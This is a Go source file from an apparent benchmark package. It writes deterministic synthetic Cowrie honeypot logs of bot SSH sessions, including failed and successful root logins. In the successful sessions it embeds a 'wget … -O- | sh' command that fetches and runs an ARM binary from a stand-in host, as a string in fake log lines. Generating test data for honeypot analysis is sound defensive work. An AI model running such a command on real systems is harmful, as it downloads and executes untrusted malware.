package bench

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"time"
)

// WriteCowrie writes a synthetic cowrie log of so many sessions, about six
// lines each, in the native JSON form: bots from 198.18.0.0/15 that log in,
// some of which fetch a file. The same seed gives the same bytes. It returns
// the number of lines.
func WriteCowrie(w io.Writer, seed uint64, sessions int) (lines int, err error) {
	g := &cowrieLog{
		w: bufio.NewWriterSize(w, 1<<16), rng: rand.New(rand.NewPCG(seed, 1)),
		clock: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC),
	}
	for i := range sessions {
		g.session(seed, i)
	}
	return g.lines, g.w.Flush()
}

type cowrieLog struct {
	w     *bufio.Writer
	rng   *rand.Rand
	clock time.Time
	lines int
}

// session writes one session; a tenth of the sources comes back often.
func (g *cowrieLog) session(seed uint64, i int) {
	g.clock = g.clock.Add(time.Duration(g.rng.IntN(900)) * time.Millisecond)
	host := g.rng.IntN(1 << 17)
	if g.rng.IntN(10) > 0 {
		host = int(float64(1<<14) * g.rng.Float64() * g.rng.Float64())
	}
	src := fmt.Sprintf("198.%d.%d.%d", 18+host>>16, host>>8&255, host&255)
	id := fmt.Sprintf("%012x", seed<<32+uint64(i))
	at := g.clock
	line := func(event, rest string) {
		at = at.Add(time.Duration(50+g.rng.IntN(400)) * time.Millisecond)
		fmt.Fprintf(g.w, `{"eventid":"cowrie.%s",%s,"src_ip":"%s","session":"%s","sensor":"bench-sensor","timestamp":"%s"}`+"\n",
			event, rest, src, id, at.Format("2006-01-02T15:04:05.000000Z"))
		g.lines++
	}
	line("session.connect", fmt.Sprintf(`"src_port":%d,"dst_ip":"10.1.1.3","dst_port":2222,"protocol":"ssh","message":"New connection: %s:4000 (10.1.1.3:2222) [session: %s]"`, 1024+g.rng.IntN(60000), src, id))
	line("client.version", `"version":"SSH-2.0-libssh2_1.8.0","message":"Remote SSH version: SSH-2.0-libssh2_1.8.0"`)
	line("client.kex", fmt.Sprintf(`"hassh":"%032x","message":"SSH client hassh fingerprint"`, g.rng.IntN(300)+1))
	if g.rng.IntN(4) > 0 {
		line("login.failed", fmt.Sprintf(`"username":"root","password":"%d","message":"login attempt [root] failed"`, g.rng.IntN(5000)))
	} else {
		line("login.success", `"username":"root","password":"admin","message":"login attempt [root/admin] succeeded"`)
		loader, sample := g.rng.IntN(400), g.rng.IntN(3000)
		url := fmt.Sprintf("http://203.0.113.%d/bins/s%d.arm", loader%250+1, sample)
		line("command.input", fmt.Sprintf(`"input":"cd /tmp; wget %s -O- | sh","message":"CMD: wget"`, url))
		line("session.file_download", fmt.Sprintf(`"url":"%s","shasum":"%064x","outfile":"var/lib/cowrie/downloads/x","message":"Downloaded URL"`, url, sample+1))
	}
	line("session.closed", fmt.Sprintf(`"duration":%.1f,"message":"Connection lost"`, at.Sub(g.clock).Seconds()))
}
